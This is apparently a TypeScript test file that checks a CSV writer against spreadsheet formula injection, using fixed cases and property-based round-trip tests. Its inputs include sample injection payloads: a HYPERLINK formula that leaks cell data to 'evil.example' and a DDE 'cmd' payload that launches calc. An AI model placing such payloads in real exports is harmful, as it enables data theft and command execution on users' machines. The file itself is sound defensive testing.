import { array, assert, constantFrom, property, string } from 'fast-check';
import { expect, test } from 'vitest';
import { csvLine } from './csv.ts';

/** Reads one line of RFC 4180. */
function readLine(line: string): string[] {
  const cells: string[] = [];
  let rest = line;
  while (rest !== '\r\n') {
    const [matched, quoted, plain] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|(?=\r\n$))/.exec(rest) ?? [];
    if (matched === undefined) throw new Error(`unreadable: ${rest}`);
    cells.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    rest = rest.slice(matched.length);
    if (matched.endsWith(',') && rest === '\r\n') cells.push('');
  }
  return cells;
}

test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u0000=1', '＝1', '＋1', '－1', '＠x', '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", '%0A=1', '|calc', '\ufeff=1'])('%j is no formula any more', (text) => {
  expect(readLine(csvLine([text, 'next']))).toEqual([`'${text}`, 'next']);
});

test('ordinary text, numbers, instants and nothing stay as they are', () => {
  expect(csvLine(['Ana "A" Ng', 'a,b\r\nc', '3-1', -5, 1.5, true, null, undefined, new Date(0), "'quoted"])).toBe(`"Ana ""A"" Ng","a,b\r\nc","3-1",-5,1.5,true,,,"1970-01-01T00:00:00.000Z","'quoted"\r\n`);
});

test('whatever is written comes back, with at most an apostrophe in front, and no cell begins like a formula', () => {
  const tricky = constantFrom('=', '+', '-', '@', '"', "'", ',', '\r\n', '\t', ' ', '＝');
  assert(property(array(array(tricky.map(String), { maxLength: 4 }).chain((lead) => string().map((text) => lead.join('') + text)), { minLength: 1, maxLength: 6 }), (texts) => {
    const back = readLine(csvLine(texts));
    expect(back.map((cell, at) => (cell === texts[at] ? cell : cell.slice(1)))).toEqual(texts);
    for (const cell of back) expect(cell.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
  }));
});
